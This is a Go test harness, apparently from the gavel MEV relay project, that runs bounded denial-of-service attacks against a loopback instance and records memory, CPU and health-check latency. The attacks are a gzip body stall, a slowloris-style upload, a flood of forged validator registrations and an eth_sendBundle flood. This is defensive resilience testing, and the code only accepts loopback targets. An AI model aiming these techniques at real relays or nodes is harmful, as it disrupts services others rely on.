// Command hostile runs one bounded attack of issue 14 against a running
// gavel MEV listener on loopback and measures the target process: peak and
// settled RSS, CPU seconds, and the latency of honest GET /livez calls made
// during the attack. `make hostile` starts a `gavel --dev` and runs each
// attack; the figures go to docs/security.md.
//
//	go run ./internal/hostile -url http://127.0.0.1:9062 -pid $(pidof gavel) -attack gzipstall -conns 200
package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/gavel-eth/gavel/core/beacon"
	"github.com/gavel-eth/gavel/params"
)

var (
	target  = flag.String("url", "http://127.0.0.1:9062", "MEV listener of the target (loopback only)")
	pid     = flag.Int("pid", 0, "process id of the target, for RSS and CPU figures")
	attack  = flag.String("attack", "gzipstall", "gzipstall | slowlength | registrations | bundles")
	rpcURL  = flag.String("rpc", "http://127.0.0.1:19463", "geth JSON-RPC of the target (bundles: the head block number, an honest account's nonce)")
	perConn = flag.Int("perconn", 525, "bundles: eth_sendBundle calls per connection")
	conns   = flag.Int("conns", 200, "hostile connections")
	spread  = flag.Int("spread", 1, "source addresses the connections come from (127.0.1.x)")
	hold    = flag.Duration("hold", 15*time.Second, "how long a hostile connection keeps trying")
	settle  = flag.Duration("settle", 10*time.Second, "wait after the attack before the settled RSS")
)

func main() {
	flag.Parse()
	u, err := url.Parse(*target)
	if err != nil || !strings.HasPrefix(u.Hostname(), "127.") {
		fmt.Fprintln(os.Stderr, "hostile: -url must be a loopback http URL")
		os.Exit(2)
	}
	before, cpu0 := rss(), cpuSeconds()
	peak := atomic.Int64{}
	peak.Store(before)
	stop := make(chan struct{})
	var bg sync.WaitGroup
	bg.Add(2)
	go func() { // RSS sampler
		defer bg.Done()
		for {
			if r := rss(); r > peak.Load() {
				peak.Store(r)
			}
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	}()
	var lat []time.Duration
	failed := 0
	go func() { // honest /livez every 20 ms
		defer bg.Done()
		client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
		for {
			t0 := time.Now()
			res, err := client.Get(*target + "/livez")
			if err == nil {
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
			if err != nil || res.StatusCode != 200 {
				failed++
			} else {
				lat = append(lat, time.Since(t0))
			}
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()

	t0 := time.Now()
	var answers map[string]int
	if *attack == "bundles" {
		answers = floodBundles()
	} else {
		answers = run(u.Host)
	}
	took := time.Since(t0)
	close(stop)
	bg.Wait()
	cpu1 := cpuSeconds()
	time.Sleep(*settle)
	after := rss()
	slices.Sort(lat)
	q := func(p float64) time.Duration {
		if len(lat) == 0 {
			return 0
		}
		return lat[min(len(lat)-1, int(p*float64(len(lat))))].Round(100 * time.Microsecond)
	}
	fmt.Printf("attack %s: %d connections from %d addresses, %s\n", *attack, *conns, *spread, took.Round(time.Millisecond))
	fmt.Printf("  answers: %v\n", answers)
	fmt.Printf("  RSS MiB: before %d, peak %d, %s after %d\n", before>>20, peak.Load()>>20, *settle, after>>20)
	fmt.Printf("  target CPU seconds during the attack: %.1f\n", cpu1-cpu0)
	fmt.Printf("  /livez during the attack: %d ok, %d failed, p50 %s p99 %s max %s\n", len(lat), failed, q(0.5), q(0.99), q(1))
	if *attack == "bundles" {
		fmt.Printf("  honest eth_sendBundle (funded dev account 0) after the flood: %s\n", honestBundle())
	}
}

// rpcCall posts one JSON-RPC call and returns the HTTP status and result.
func rpcCall(url, method string, params ...any) (int, json.RawMessage, string) {
	body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
	res, err := http.Post(url, "application/json", bytes.NewReader(body))
	if err != nil {
		return 0, nil, err.Error()
	}
	defer res.Body.Close()
	var out struct {
		Result json.RawMessage `json:"result"`
		Error  *struct {
			Message string `json:"message"`
		} `json:"error"`
	}
	json.NewDecoder(res.Body).Decode(&out)
	msg := ""
	if out.Error != nil {
		msg = out.Error.Message
	}
	return res.StatusCode, out.Result, msg
}

func headNumber() uint64 {
	_, r, _ := rpcCall(*rpcURL, "eth_blockNumber")
	var h hexutil.Uint64
	json.Unmarshal(r, &h)
	return uint64(h)
}

func bundleTx(key *ecdsa.PrivateKey, nonce uint64) hexutil.Bytes {
	to := common.Address{1}
	tx := types.MustSignNewTx(key, types.LatestSignerForChainID(big.NewInt(1337)), &types.DynamicFeeTx{
		ChainID: big.NewInt(1337), Nonce: nonce, GasTipCap: big.NewInt(1e9), GasFeeCap: big.NewInt(1e11), Gas: 21000, To: &to})
	raw, _ := tx.MarshalBinary()
	return raw
}

// floodBundles sends -conns x -perconn unsigned eth_sendBundle calls from
// keys with no balance, spread over the next 200 blocks (the per-block cap
// alone would stop them otherwise).
func floodBundles() map[string]int {
	var mu sync.Mutex
	answers := map[string]int{}
	head := headNumber()
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			key, _ := crypto.GenerateKey()
			for i := 0; i < *perConn; i++ {
				st, _, _ := rpcCall(*target, "eth_sendBundle", map[string]any{"txs": []hexutil.Bytes{bundleTx(key, uint64(i))}, "blockNumber": hexutil.Uint64(head + 3 + uint64(i%200))})
				mu.Lock()
				answers[strconv.Itoa(st)]++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return answers
}

// honestBundle sends one bundle from funded dev account 0 and reports the
// answer.
func honestBundle() string {
	key := params.DevAccounts()[0].Key
	_, r, _ := rpcCall(*rpcURL, "eth_getTransactionCount", params.DevAccounts()[0].Address, "latest")
	var nonce hexutil.Uint64
	json.Unmarshal(r, &nonce)
	t0 := time.Now()
	st, res, msg := rpcCall(*target, "eth_sendBundle", map[string]any{"txs": []hexutil.Bytes{bundleTx(key, uint64(nonce))}, "blockNumber": hexutil.Uint64(headNumber() + 2)})
	return fmt.Sprintf("HTTP %d in %s %s%s", st, time.Since(t0).Round(100*time.Microsecond), res, msg)
}

// run opens the hostile connections and returns how they were answered
// (status code, or "none" when the connection ended without an answer).
func run(host string) map[string]int {
	var mu sync.Mutex
	answers := map[string]int{}
	var wg sync.WaitGroup
	payload := body()
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			got := one(host, i, payload)
			mu.Lock()
			answers[got]++
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	return answers
}

func body() []byte {
	switch *attack {
	case "gzipstall":
		// A message that passes the checks made before the payload (a
		// coming slot's duty, its proposer and fee recipient, all public),
		// then zeros: the body is inflated, as an honest one would be.
		plain := make([]byte, 15<<20-1024)
		copy(plain, dutyTrace())
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Write(plain)
		w.Close()
		return b.Bytes()
	case "registrations":
		return registrations()
	}
	return nil
}

// dutyTrace is the SSZ bid trace of a submission for the last listed duty
// (the furthest slot), naming its proposer and fee recipient.
func dutyTrace() []byte {
	res, err := http.Get(*target + "/relay/v1/builder/validators")
	if err != nil {
		fail(err)
	}
	defer res.Body.Close()
	var duties []struct {
		Slot  string          `json:"slot"`
		Entry json.RawMessage `json:"entry"`
	}
	if err := json.NewDecoder(res.Body).Decode(&duties); err != nil || len(duties) == 0 {
		fail(fmt.Errorf("no validator duties (%v)", err))
	}
	d := duties[len(duties)-1]
	regs, err := beacon.DecodeRegistrationsJSON(append(append([]byte("["), d.Entry...), ']'))
	if err != nil {
		fail(err)
	}
	slot, _ := strconv.ParseUint(d.Slot, 10, 64)
	t := beacon.BidTrace{Slot: slot, ProposerPubkey: regs[0].Message.Pubkey, ProposerFeeRecipient: regs[0].Message.FeeRecipient, GasLimit: 30_000_000}
	out, err := t.MarshalSSZ()
	if err != nil {
		fail(err)
	}
	return out
}

// registrations is 90,000 copies (16.2 MB of SSZ) of a dev validator's
// registration, taken from the builder API, with another gas limit: a
// known key whose signature no longer matches.
func registrations() []byte {
	res, err := http.Get(*target + "/relay/v1/builder/validators")
	if err != nil {
		fail(err)
	}
	defer res.Body.Close()
	var duties []struct {
		Entry json.RawMessage `json:"entry"`
	}
	if err := json.NewDecoder(res.Body).Decode(&duties); err != nil || len(duties) == 0 {
		fail(fmt.Errorf("no validator duties to copy a registration from (%v)", err))
	}
	regs, err := beacon.DecodeRegistrationsJSON(append(append([]byte("["), duties[0].Entry...), ']'))
	if err != nil {
		fail(err)
	}
	regs[0].Message.GasLimit++
	regs[0].Message.Timestamp = uint64(time.Now().Unix()) // newer than the stored one: not skipped as a replay
	many := make([]beacon.SignedValidatorRegistration, 90_000)
	for i := range many {
		many[i] = regs[0]
	}
	out, err := beacon.EncodeRegistrationsSSZ(many)
	if err != nil {
		fail(err)
	}
	return out
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "hostile:", err)
	os.Exit(1)
}

func one(host string, i int, payload []byte) string {
	src := net.IPv4(127, 0, 1, byte(1+i%max(1, min(*spread, 250))))
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src}, Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", host)
	if err != nil {
		return "dial error"
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(*hold + 5*time.Second))
	answer := make(chan string, 1)
	go func() {
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			answer <- "none"
			return
		}
		io.Copy(io.Discard, res.Body)
		answer <- strconv.Itoa(res.StatusCode)
	}()
	end := time.After(*hold)
	switch *attack {
	case "gzipstall":
		fmt.Fprintf(c, "POST /relay/v1/builder/blocks HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", len(payload))
		c.Write(payload[:len(payload)-8])
	case "slowlength":
		fmt.Fprintf(c, "POST /relay/v1/builder/blocks HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", 15<<20)
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for {
			if _, err := c.Write([]byte{0}); err != nil {
				break
			}
			select {
			case a := <-answer:
				return a
			case <-end:
				return "none"
			case <-tick.C:
			}
		}
	case "registrations":
		fmt.Fprintf(c, "POST /eth/v1/builder/validators HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", len(payload))
		c.Write(payload)
	}
	select {
	case a := <-answer:
		return a
	case <-end:
		return "none"
	}
}

// rss is the target's resident set in bytes (0 without -pid).
func rss() int64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", *pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseInt(f[1], 10, 64)
			return kb << 10
		}
	}
	return 0
}

// cpuSeconds is the target's user+system CPU time.
func cpuSeconds() float64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", *pid))
	if err != nil {
		return 0
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
	ut, _ := strconv.ParseFloat(f[11], 64)
	st, _ := strconv.ParseFloat(f[12], 64)
	return (ut + st) / 100 // clock ticks (USER_HZ 100 on Linux)
}
